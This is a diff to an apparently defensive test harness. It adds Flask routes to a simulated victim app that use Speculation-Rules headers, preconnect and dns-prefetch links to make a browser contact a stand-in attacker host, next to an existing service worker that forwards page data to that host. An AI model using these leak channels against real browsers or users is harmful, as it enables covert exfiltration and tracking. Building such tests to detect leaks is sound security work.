@@ -137,6 +137,21 @@ def victim_app(attacker: str) -> Flask:
         app.config["landed"].append((request.method, request.get_data(as_text=True)))
         return f"<title>Landed {request.method}</title><p>{request.form.get('note', 'no note')}</p>"
 
+    @app.get("/spec-header")
+    def spec_header():  # speculation rules by response header (prefetching at the attacker), and a preconnect there
+        r = Response(f"<title>Spec</title><link rel=preconnect href='http://127.0.0.2:{request.args.get('pre', 9)}'>"
+                     "<link rel=dns-prefetch href='//prefetched.attacker.example'>")
+        r.headers["Speculation-Rules"] = '"/spec-rules.json"'
+        r.headers.add("Set-Cookie", "one=1; Path=/")
+        r.headers.add("Set-Cookie", "two=2; Path=/")
+        return r
+
+    @app.get("/spec-rules.json")
+    def spec_rules():
+        import json
+        rules = {"prefetch": [{"source": "list", "urls": [f"{attacker}/collect?prefetch=header"]}]}
+        return Response(json.dumps(rules), mimetype="application/speculationrules+json")
+
     @app.get("/sw.js")
     def service_worker():  # sends whatever the page posts to it to the attacker, then says how that went
         return Response(f"const A={attacker!r};self.addEventListener('message', (e) => "
